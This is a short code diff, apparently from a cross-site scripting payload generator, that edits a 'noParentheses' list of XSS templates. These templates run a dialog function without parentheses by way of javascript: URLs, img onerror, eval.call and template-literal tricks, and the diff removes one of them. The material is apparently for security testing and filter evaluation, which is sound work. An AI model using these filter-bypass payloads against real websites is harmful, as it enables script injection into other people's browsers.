@@ -36,7 +36,6 @@ export const noParentheses = xssGenerator({
       'location=`javascript:{dialog}%28{digit}%29`',
       "document.body.innerHTML='<img src=x onerror={dialog}&lpar;1&rpar;>'",
       "eval.call`${'{dialog}\\x281\\x29'}`",
-      '{dialog}?.`1`',
       'self[`{dialog}`]`1`',
     ],
   },
